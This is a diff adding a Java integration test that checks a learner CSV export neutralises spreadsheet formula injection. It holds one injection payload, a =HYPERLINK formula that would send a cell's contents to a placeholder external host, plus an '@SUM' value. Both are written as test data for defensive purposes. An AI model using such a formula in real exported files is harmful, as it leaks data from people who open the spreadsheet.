@@ -4,12 +4,20 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import fr.passeportnumerique.IntegrationTest;
 import fr.passeportnumerique.SignedIn;
+import fr.passeportnumerique.TestLearners;
+import fr.passeportnumerique.account.AccountService;
 import fr.passeportnumerique.account.AppRoles;
+import fr.passeportnumerique.account.CompanyDetails;
+import fr.passeportnumerique.account.Registration;
+import fr.passeportnumerique.account.Sector;
+import fr.passeportnumerique.account.WelcomePointService;
 import java.io.StringReader;
 import java.nio.charset.StandardCharsets;
+import java.time.LocalDate;
 import java.util.Arrays;
 import java.util.List;
 import java.util.Locale;
+import java.util.UUID;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.Test;
@@ -60,6 +68,40 @@ class LearnersCsvIT {
         assertThat(records.subList(1, records.size()))
                 .anySatisfy(row -> assertThat(row.get(0)).isEqualTo("Léa Apprenante"));
         assertThat(text).contains("\r\n").doesNotContain("Ã");
+    }
+
+    @Autowired
+    AccountService accounts;
+
+    @Autowired
+    WelcomePointService welcomePoints;
+
+    @Test
+    void a_name_written_as_a_formula_is_exported_as_text_that_no_spreadsheet_computes() throws Exception {
+        String formula = "=HYPERLINK(\"https://exemple.invalid/?d=\"&A1;\"Cliquez\")";
+        String email = "formule-" + UUID.randomUUID() + "@entreprise-exemple.fr";
+        accounts.register(new Registration(
+                formula,
+                email,
+                TestLearners.PASSWORD,
+                new CompanyDetails("@SUM(1+1)", "12345678901237", Sector.G, 2, LocalDate.of(2022, 3, 1), "69001", "69"),
+                null));
+        long lyon = staffsPoint();
+        SignedIn.as(email, AppRoles.LEARNER, () -> welcomePoints.join(lyon));
+
+        byte[] bytes =
+                SignedIn.as("accueil@example.org", AppRoles.WELCOME_STAFF, () -> csv.export(lyon, Locale.FRENCH));
+
+        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
+        List<CSVRecord> records = CSVFormat.DEFAULT
+                .builder()
+                .setDelimiter(';')
+                .get()
+                .parse(new StringReader(text))
+                .getRecords();
+        assertThat(records)
+                .anySatisfy(row -> assertThat(row.toList()).startsWith("'" + formula, "'@SUM(1+1)"))
+                .noneSatisfy(row -> assertThat(row.get(0)).startsWith("="));
     }
 
     @Autowired
